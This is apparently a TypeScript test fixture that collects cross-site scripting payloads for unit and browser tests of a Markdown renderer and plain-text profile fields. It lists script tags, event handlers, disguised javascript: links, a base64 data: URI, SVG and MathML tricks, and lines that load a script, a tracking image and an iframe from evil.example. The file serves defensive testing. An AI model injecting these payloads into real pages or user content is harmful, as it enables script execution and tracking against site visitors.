// One XSS corpus for every place that renders what members type (docs/security.md #10): the
// Markdown renderer's unit test and the browser tests (tests/e2e/security.spec.ts) both use it.

/** Markdown bodies: raw HTML, event handlers, dangerous link schemes in every disguise, SVG. */
export const markdownXssCorpus = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A;&#x61;vascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](https://evil.example/track.png)",
  "![x](javascript:alert(1))",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
] as const;

/** Short payloads for plain-text fields (names, bios, titles): each must show as the typed text. */
export const plainTextXssCorpus = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
] as const;

/** One Markdown body holding the whole corpus, each entry its own paragraph. */
export function markdownXssBody(): string {
  return markdownXssCorpus.join("\n\n");
}
